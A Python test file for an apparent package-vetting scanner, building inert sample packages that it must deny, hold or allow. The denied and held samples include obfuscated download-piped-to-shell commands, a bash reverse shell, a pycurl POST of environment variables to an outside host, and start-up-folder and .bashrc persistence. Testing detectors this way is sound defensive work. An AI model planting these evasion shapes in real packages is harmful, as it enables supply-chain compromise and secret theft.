"""A fifth red-team pass (issue 16; ADR 0171): shapes an attacker who has read the flow pass
tries once one value does not fold.

* Rows of a written list that does not fold, unpacked by a loop (``for a, b in [(x, 'ls'),
  (CURL, ' | sh')]``, ``zip``, ``enumerate``, ``{...}.items()``) are read row by row; one
  row assigned (``a, b = x, CURL``) item by item (:mod:`rowloop`).
* A list that does not fold keeps its known items through ``T[1]``, ``T[i]``, a set literal,
  ``reversed``/``sorted``/``iter`` (:mod:`listtext`).
* An iterator class's ``__next__``, an ``__iter__`` returning a list, ``g.__next__()`` and
  ``__init_subclass__``'s class are read (:mod:`protocol`, :mod:`rebound`).
* A constructor that names no sink but calls its own acting method is walked
  (:mod:`selfcalls`).
* A command, a template or a join padded at its start keeps its known parts; a download
  piped to a shell or a reverse shell among them is read as the command (:mod:`paddedrun`,
  :mod:`paddedjoin`), code among them is read by an exec, and ``getattr(os, 'sys' + x +
  'tem')`` names ``os.system``. ``x or CMD`` may be either; ``repr`` of a string folds.
* A file written with known text and opened again to read is that text (:mod:`rebound`).
* A variable name padded at its start (``os.getenv(x + 'APPDATA')``) is read as the
  variable (:mod:`pathshape`).
* pycurl given a public URL on its own line is a connection to a written host
  (:mod:`hostsent`); a download saved as a module whose folder goes on ``sys.path``
  (:mod:`fetchedmodule`); ``data_files`` into a home or environment folder's start-up or
  trusted files (:mod:`datafolder`).

Near-misses a real package writes stay allowed. Every sample is inert: vetting only reads
files."""

from __future__ import annotations

from collections.abc import Mapping

import pytest

from airlock.domain.requests import Outcome
from tests.unit.imports.packages.adversary import CURL, X, init, verdict_cases, vet_package

H = "198.51.100.7"
URL = f"http://{H}/x"
# The module's names, and ``x``: an empty string the reader cannot fold.
TOP = f"import os, subprocess, sys\nx = {X}\nCURL = {CURL!r}\n"
REVERSE = f"bash -i >& /dev/tcp/{H}/4444 0>&1"


def top(body: str) -> dict[str, str]:
    """A package whose ``__init__.py`` runs ``body`` after :data:`TOP`."""
    return init(TOP + body)


def called(body: str) -> dict[str, str]:
    """A module whose function ``start`` (called by no one in the package) runs ``body``."""
    lines = "".join(f"    {line}\n" for line in body.strip("\n").split("\n"))
    return {"evpkg/__init__.py": "", "evpkg/core.py": "def start():\n" + lines}


def setup_py(body: str, **files: str) -> dict[str, str]:
    """An sdist whose ``setup.py`` runs ``body`` before ``setup(...)``, with ``files``."""
    head = "import os, sys, sysconfig\nfrom setuptools import setup\n"
    return {"setup.py": head + body, "evpkg/__init__.py": "", **files}


DENIED: dict[str, Mapping[str, str]] = {
    # Rows unpacked from a list that does not fold.
    "rows-unpacked-from-a-written-list": top(
        "for a, b in [(x, 'ls'), ('curl -s http://203.0.113.5/x', ' | sh')]:\n"
        "    os.system(a + b)\n"
    ),
    "rows-unpacked-from-a-module-name": top(
        "PAIRS = [(x, 'ls'), ('curl -s http://203.0.113.5/x', ' | sh')]\n"
        "for a, b in PAIRS:\n    os.system(a + b)\n"
    ),
    "rows-zipped": top(
        "for a, b in zip([x, 'curl -s http://203.0.113.5/x'], [x, ' | sh']):\n"
        "    os.system(a + b)\n"
    ),
    "rows-enumerated": top("for i, c in enumerate([x, CURL]):\n    os.system(c)\n"),
    "rows-of-dict-items": top(
        "for a, b in {x: 'ls', 'curl -s http://203.0.113.5/x': ' | sh'}.items():\n"
        "    os.system(a + b)\n"
    ),
    "row-assigned-item-by-item": top("a, b = x, CURL\nos.system(a + b)\n"),
    # Items of a list that does not fold.
    "item-of-a-tuple-that-does-not-fold": top("T = (x, CURL)\nos.system(T[1])\n"),
    "items-of-a-set-looped": top("for c in {x, CURL}:\n    os.system(c)\n"),
    "items-reversed": top("for c in reversed([CURL, x]):\n    os.system(c)\n"),
    "items-sorted": top("for c in sorted([x, CURL]):\n    os.system(c)\n"),
    # Iteration protocols.
    "iterator-class-next": top(
        "class Cmds:\n"
        "    def __init__(self):\n        self.i = 0\n"
        "    def __iter__(self):\n        return self\n"
        "    def __next__(self):\n"
        "        if self.i:\n            raise StopIteration\n"
        "        self.i = 1\n        return CURL\n"
        "for c in Cmds():\n    os.system(c)\n"
    ),
    "iter-method-returns-a-list": top(
        "class C:\n    def __iter__(self):\n        return iter([CURL])\n"
        "for c in C():\n    os.system(c)\n"
    ),
    "generator-dunder-next": top(
        "def cmds():\n    yield CURL\ng = cmds()\nos.system(g.__next__())\n"
    ),
    "init-subclass-runs-the-subclass-constant": top(
        "class B:\n    def __init_subclass__(cls):\n        os.system(cls.c)\n"
        "class D(B):\n    c = CURL\n"
    ),
    # A constructor handing its argument to its own acting method.
    "constructor-calls-its-own-runner-on-import": top(
        "class Runner:\n"
        "    def __init__(self, c):\n        self.c = c\n        self.go()\n"
        "    def go(self):\n        os.system(self.c)\n"
        "Runner(CURL)\n"
    ),
    "constructor-of-another-module-calls-its-own-runner": {
        "evpkg/__init__.py": f"from .helpers import Boot\nBoot({CURL!r})\n",
        "evpkg/helpers.py": "import os\nclass Boot:\n"
        "    def __init__(self, c):\n        self.c = c\n        self.run()\n"
        "    def run(self):\n        os.system(self.c)\n",
    },
    # Padded at the start.
    "command-padded-at-its-start": top("os.system(x + CURL)\n"),
    "reverse-shell-padded-at-its-start": top(f"os.system(x + {REVERSE!r})\n"),
    "template-padded-at-its-start": top("os.system('{}{}'.format(x, CURL))\n"),
    "percent-padded-at-its-start": top("os.system('%s%s' % (x, CURL))\n"),
    "join-padded-at-its-start": top("parts = [x, CURL]\nos.system(''.join(parts))\n"),
    "padded-command-stripped": top("os.system((x + CURL).strip())\n"),
    "placeholder-replaced-by-nothing": top("os.system(('X' + CURL).replace('X', x))\n"),
    "getattr-of-a-padded-sink-name": top("getattr(os, 'sys' + x + 'tem')(CURL)\n"),
    "variable-name-padded-at-its-start": top(
        "p = os.path.join(os.environ[x + 'APPDATA'], 'Extension', 'background.js')\n"
        "open(p, 'w').write('fetch(\"http://198.51.100.7/x\")')\n"
    ),
    "code-padded-and-exec-d-from-a-template": top(
        "exec('{}{}'.format(x, 'import os\\nos.system(' + repr(CURL) + ')'))\n"
    ),
    "either-operand-of-or": top("os.system(x or CURL)\n"),
    "either-operand-of-and": top("os.system(sys.argv and CURL)\n"),
    "command-written-to-a-file-and-read-back": top(
        "open('/tmp/.q', 'w').write(CURL)\nos.system(open('/tmp/.q').read())\n"
    ),
    # Sends and downloads when called.
    "environment-posted-by-pycurl-when-called": called(
        "import os, pycurl\nc = pycurl.Curl()\n"
        "c.setopt(pycurl.URL, 'https://collect.evpkg-stats.net/i')\n"
        "c.setopt(pycurl.POSTFIELDS, str(os.environ))\nc.perform()"
    ),
}

HELD: dict[str, Mapping[str, str]] = {
    "download-imported-from-sys-path-when-called": called(
        "import requests, sys\n"
        f"open('/tmp/stage2.py', 'w').write(requests.get('{URL}').text)\n"
        "sys.path.append('/tmp')\nimport stage2"
    ),
    "data-files-into-the-home-folder": setup_py(
        "setup(name='evpkg', packages=['evpkg'], "
        "data_files=[(os.path.expanduser('~'), ['evpkg/.bashrc'])])\n",
        **{"evpkg/.bashrc": CURL + "\n"},
    ),
    "data-files-into-the-startup-folder": setup_py(
        "setup(name='evpkg', packages=['evpkg'], data_files=[(os.path.join("
        "os.environ['APPDATA'], 'Microsoft', 'Windows', 'Start Menu', 'Programs', 'Startup'), "
        "['evpkg/u.cmd'])])\n",
        **{"evpkg/u.cmd": "echo pwned\n"},
    ),
}

ALLOWED: dict[str, Mapping[str, str]] = {
    "rows-of-locale-defaults": top(
        "for k, v in [('LC_ALL', 'C'), ('LANG', x)]:\n    os.environ.setdefault(k, v)\n"
    ),
    "rows-of-own-config-files": top(
        "D = os.path.expanduser('~/.config/evpkg')\n"
        "for name, text in [('a.cfg', x), ('b.cfg', '[b]')]:\n"
        "    open(os.path.join(D, name), 'w').write(text)\n"
    ),
    "iterator-class-of-versions": top(
        "class Versions:\n"
        "    def __iter__(self):\n        return iter(['1.0', x])\n"
        "for v in Versions():\n    print(v)\n"
    ),
    "padded-version-query": top("os.system(x + ' --version')\n"),
    "padded-template-printed": top("print('{}{}'.format(x, CURL))\n"),
    "getattr-of-a-padded-other-name": top(
        "f = getattr(os, x + 'sep')\ng = getattr(os, 'get' + x)\n"
    ),
    "editor-or-a-default-printed": top("print(os.environ.get('EDITOR') or 'vi')\n"),
    "names-assigned-by-a-template-exec": top("exec('{} = {}'.format(x, 1))\n"),
    "own-file-written-and-read-back": top(
        "p = os.path.expanduser('~/.evpkg.json')\n"
        "open(p, 'w').write('{}')\nSETTINGS = open(p).read()\n"
    ),
    "constructor-reads-its-config": top(
        "import json\n"
        "class Config:\n"
        "    def __init__(self):\n        self.data = self.load()\n"
        "    def load(self):\n"
        "        p = os.path.expanduser('~/.config/evpkg.json')\n"
        "        return json.load(open(p)) if os.path.exists(p) else {}\n"
        "CONFIG = Config()\n"
    ),
    "subclasses-registered": top(
        "REG = {}\nclass B:\n    def __init_subclass__(cls):\n        REG[cls.__name__] = cls\n"
        "class D(B):\n    pass\n"
    ),
    "pycurl-sends-one-token-when-called": called(
        "import os, pycurl\nc = pycurl.Curl()\n"
        "c.setopt(pycurl.URL, 'https://api.evpkg.org/v1/ping')\n"
        "c.setopt(pycurl.HTTPHEADER, ['Authorization: ' + os.environ['EVPKG_TOKEN']])\n"
        "c.perform()"
    ),
    "download-cached-beside-a-path-change-when-called": called(
        "import os, sys, requests\n"
        "d = os.path.expanduser('~/.cache/evpkg')\n"
        "open(d + '/index.json', 'w').write(requests.get('https://pypi.org/pypi/x/json').text)\n"
        "sys.path.insert(0, d)"
    ),
    "data-files-into-an-own-config-folder": setup_py(
        "setup(name='evpkg', packages=['evpkg'], "
        "data_files=[(os.path.expanduser('~/.config/evpkg'), ['evpkg/evpkg.json'])])\n",
        **{"evpkg/evpkg.json": "{}\n"},
    ),
    "data-files-into-the-prefix-share": setup_py(
        "setup(name='evpkg', packages=['evpkg'], "
        "data_files=[(os.path.join(sys.prefix, 'share', 'evpkg'), ['evpkg/evpkg.json'])])\n",
        **{"evpkg/evpkg.json": "{}\n"},
    ),
}


@pytest.mark.parametrize(("files", "expected"), verdict_cases(DENIED, HELD, ALLOWED))
def test_shapes_around_a_value_that_does_not_fold(
    files: Mapping[str, str], expected: Outcome
) -> None:
    assert vet_package(files) is expected
